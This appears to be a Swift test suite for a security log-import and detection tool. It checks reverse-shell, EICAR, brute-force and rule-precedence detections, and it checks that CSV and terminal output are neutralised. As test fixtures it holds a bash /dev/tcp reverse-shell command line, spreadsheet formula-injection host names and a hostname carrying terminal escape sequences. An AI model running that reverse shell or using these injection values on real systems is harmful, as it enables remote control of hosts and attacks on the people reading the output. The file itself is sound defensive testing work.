import CSV
import Foundation
import Testing
import VigilTooling

/// The edges of an import that a mutation left unguarded, held through the real binary.
@Suite struct ImportEdgeTests {
    /// An auditd SYSCALL + EXECVE group for a reverse shell, with no EOE record after it.
    static let unterminatedAuditdGroup = """
        type=SYSCALL msg=audit(1764237600.000:7): syscall=59 success=yes ppid=10 pid=11 uid=0 comm="bash" exe="/bin/bash"
        type=EXECVE msg=audit(1764237600.000:7): argc=3 a0="bash" a1="-i" a2=">& /dev/tcp/10.0.0.5/4444 0>&1"

        """

    func alerts(_ scratch: TemporaryDirectory, _ extra: [String] = []) async throws -> [[String: Any]] {
        let result = try await vigil(["alerts", "--format", "json"] + extra, in: scratch.url)
        #expect(result.status == 0, "\(result.stderr)")
        return try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [[String: Any]])
    }

    @Test func aFileEndingInsideAnAuditdGroupStillYieldsTheProcessAndItsDetection() async throws {
        let scratch = TemporaryDirectory()
        try scratch.write("audit.log", Self.unterminatedAuditdGroup)
        try await vigil(["integration", "on", "auditd"], in: scratch.url)
        let imported = try await vigil(["import", "--integration", "auditd", "--format", "auditd", "--hostname", "web-01", "--json", "audit.log"], in: scratch.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        // Two raw auditd records plus the process_creation event assembled from the group.
        #expect(imported.stdout.contains("\"events_stored\":3"))
        // The default pack's SigmaHQ rules see the assembled process too.
        let raised = try await alerts(scratch, ["--rule", "Reverse shell command line"])
        #expect(raised.count == 1)
        #expect((raised.first?["matched_fields"] as? [String: Any])?["CommandLine"] as? String == "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")
        #expect(try await alerts(scratch).contains { $0["title"] as? String == "Bash Interactive Shell" })
    }

    @Test func aClamAVLogWithoutItsSummaryStillYieldsTheDetection() async throws {
        let scratch = TemporaryDirectory()
        // clamscan killed before it printed the scan summary: the FOUND line waits for a date that never comes.
        try scratch.write("clamav.log", "/tmp/eicar.com.txt: Win.Test.EICAR_HDB-1.UNOFFICIAL FOUND\n")
        try await vigil(["integration", "on", "clamav"], in: scratch.url)
        let imported = try await vigil(["import", "--integration", "clamav", "--format", "clamav", "--hostname", "web-01", "--json", "clamav.log"], in: scratch.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.contains("\"events_stored\":1"))
        #expect(try await alerts(scratch).map { $0["title"] as? String } == ["EICAR test file detected"])
    }

    @Test func aJSONArrayWithEscapedQuotesAndBracketsInStringsStoresEveryElement() async throws {
        let scratch = TemporaryDirectory()
        let array = #"""
            [{"@timestamp":"2026-11-27T10:00:00Z","hostname":"web-01","msg":"5\" pipe","n":1},
             {"@timestamp":"2026-11-27T10:00:01Z","hostname":"web-01","msg":"braces } ] { [ and a \\","n":2},
             {"@timestamp":"2026-11-27T10:00:02Z","hostname":"web-01","msg":"plain","n":3}]
            """#
        try scratch.write("events.json", array)
        try await vigil(["integration", "on", "json"], in: scratch.url)
        let imported = try await vigil(["import", "--integration", "json", "--format", "json", "--json", "events.json"], in: scratch.url)
        #expect(imported.status == 0, "\(imported.stderr)")
        #expect(imported.stdout.contains("\"events_stored\":3,\"rejected\":0"))
        let events = try await vigil(["events", "--format", "json"], in: scratch.url)
        let rows = try #require(try JSONSerialization.jsonObject(with: Data(events.stdout.utf8)) as? [[String: Any]])
        let messages = Set(rows.compactMap { ($0["fields"] as? [String: Any])?["msg"] as? String })
        #expect(messages == ["5\" pipe", "braces } ] { [ and a \\", "plain"])
    }

    /// Host names that each need CSV quoting or neutralizing, or are plain non-ASCII text.
    static let awkwardHostnames = ["web,01", "say \"hi\"", "two\nlines", "=HYPERLINK(\"http://x\")", "+1", "@sum", "Zürich-é"]

    @Test func csvOutputReadsBackFieldForFieldWithARealCSVReader() async throws {
        let scratch = TemporaryDirectory()
        let lines = Self.awkwardHostnames.enumerated().map { index, host in
            let escaped = host.replacingOccurrences(of: "\"", with: "\\\"").replacingOccurrences(of: "\n", with: "\\n")
            return #"{"@timestamp":"2026-11-27T10:00:0\#(index)Z","hostname":"\#(escaped)","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan, \"Mirai\" é"}"#
        }
        try scratch.write("events.ndjson", lines.joined(separator: "\n"))
        try await vigil(["integration", "on", "json"], in: scratch.url)
        #expect(try await vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)

        let csv = try await vigil(["alerts", "--format", "csv"], in: scratch.url)
        #expect(csv.status == 0)
        let reader = try CSVReader(string: csv.stdout, hasHeaderRow: true)
        let header = try #require(reader.headerRow)
        let hostColumn = try #require(header.firstIndex(of: "hostname"))
        let fieldsColumn = try #require(header.firstIndex(of: "matched_fields"))
        var hosts: [String] = []
        while let row = reader.next() {
            #expect(row.count == header.count, "a row split into \(row.count) fields: \(row)")
            hosts.append(row[hostColumn])
            let fields = try JSONSerialization.jsonObject(with: Data(row[fieldsColumn].utf8)) as? [String: Any]
            #expect(fields?["Signature"] as? String == "Unix.Trojan, \"Mirai\" é")
        }
        #expect(reader.error == nil)
        // A cell a spreadsheet would run as a formula is shown as text, behind a single quote.
        let expected = Self.awkwardHostnames.map { "=+-@".contains($0.first!) ? "'" + $0 : $0 }
        #expect(hosts.sorted() == expected.sorted())
    }

    @Test func tablesShowControlCharactersFromEventsAsEscapesNeverRaw() async throws {
        let scratch = TemporaryDirectory()
        let hostile = #"{"@timestamp":"2026-11-27T10:00:00Z","hostname":"evil\u001b[2J\u001b]0;owned\u0007\rweb-01","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan.Mirai-1"}"#
        try scratch.write("events.ndjson", hostile)
        try await vigil(["integration", "on", "json"], in: scratch.url)
        #expect(try await vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)
        for command in [["alerts"], ["machines"], ["alert", "show", "1"]] {
            let result = try await vigil(command, in: scratch.url)
            #expect(result.status == 0, "\(command): \(result.stderr)")
            #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || $0.value == 0x7F }, "\(command) printed a raw control character")
            #expect(result.stdout.contains(#"evil\e[2J\e]0;owned\a\rweb-01"#), "\(command): \(result.stdout)")
        }
    }
}

/// Behaviours that one assertion held, held again end to end.
@Suite struct ImportDefaultsTests {
    func antivirus(_ time: String) -> String {
        #"{"@timestamp":"\#(time)","hostname":"web-01","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan.Mirai-1"}"#
    }

    @Test func theDefaultDedupeWindowIsOneHourFromTheCLI() async throws {
        let scratch = TemporaryDirectory()
        try scratch.write("events.ndjson", [
            antivirus("2026-03-03T10:00:00Z"), antivirus("2026-03-03T10:59:59Z"), antivirus("2026-03-03T12:00:00Z"),
        ].joined(separator: "\n"))
        try await vigil(["integration", "on", "json"], in: scratch.url)
        let imported = try await vigil(["import", "--integration", "json", "--json", "events.ndjson"], in: scratch.url)
        #expect(imported.stdout.contains("\"alerts_raised\":2"), "\(imported.stdout)")
        let alerts = try await vigil(["alerts", "--format", "json"], in: scratch.url)
        let rows = try #require(try JSONSerialization.jsonObject(with: Data(alerts.stdout.utf8)) as? [[String: Any]])
        #expect(rows.compactMap { $0["event_count"] as? Int }.sorted() == [1, 2])
    }

    @Test func aBruteForceWindowIncludesTheEventExactlyFiveMinutesBefore() async throws {
        // Ten failures with the first exactly 300 s before the last: both window edges count.
        func failures(lastAt second: Int) -> String {
            let seconds = (0..<9).map { $0 * 30 } + [second]
            return seconds.enumerated().map { index, total in
                String(format: "Mar  3 10:%02d:%02d web-01 sshd[%d]: Failed password for root from 203.0.113.5 port %d ssh2",
                       total / 60, total % 60, 1000 + index, 40000 + index)
            }.joined(separator: "\n") + "\n"
        }
        for (last, expected) in [(300, ["SSH brute force from one address"]), (301, [])] {
            let scratch = TemporaryDirectory()
            try scratch.write("auth.log", failures(lastAt: last))
            try await vigil(["integration", "on", "syslog"], in: scratch.url)
            let imported = try await vigil(["import", "--integration", "syslog", "--format", "syslog", "auth.log"], in: scratch.url)
            #expect(imported.status == 0, "\(imported.stderr)")
            let alerts = try await vigil(["alerts", "--format", "json"], in: scratch.url)
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(alerts.stdout.utf8)) as? [[String: Any]])
            #expect(rows.compactMap { $0["title"] as? String } == expected, "last failure at \(last) s")
        }
    }

    @Test func conditionPrecedenceInALoadedRuleFile() async throws {
        // `a or b and not c` is `a or (b and (not c))`.
        let scratch = TemporaryDirectory()
        try scratch.write("rule.yml", """
            title: precedence
            id: 11111111-2222-4333-8444-555555555555
            logsource:
                category: process_creation
            detection:
                a:
                    CommandLine: alpha
                b:
                    Image: /bin/beta
                c:
                    User: root
                condition: a or b and not c
            level: high
            """)
        let events = [
            (#""CommandLine":"alpha","User":"root""#, true),          // a alone is enough
            (#""Image":"/bin/beta","User":"alice""#, true),           // b and not c
            (#""Image":"/bin/beta","User":"root""#, false),           // b but c
            (#""CommandLine":"other","User":"alice""#, false),        // neither a nor b
        ].enumerated().map { index, pair in
            (#"{"@timestamp":"2026-11-27T10:00:0\#(index)Z","hostname":"h\#(index)","logsource":{"category":"process_creation"},\#(pair.0)}"#, pair.1)
        }
        try scratch.write("events.ndjson", events.map(\.0).joined(separator: "\n"))
        let hunted = try await vigil(["hunt", "--rules", "rule.yml", "--output-format", "jsonl", "events.ndjson"], in: scratch.url)
        #expect(hunted.status == 0, "\(hunted.stderr)")
        let hosts = Set(hunted.stdout.split(separator: "\n").compactMap { line in
            (try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])?["hostname"] as? String
        })
        #expect(hosts == ["h0", "h1"])
    }
}
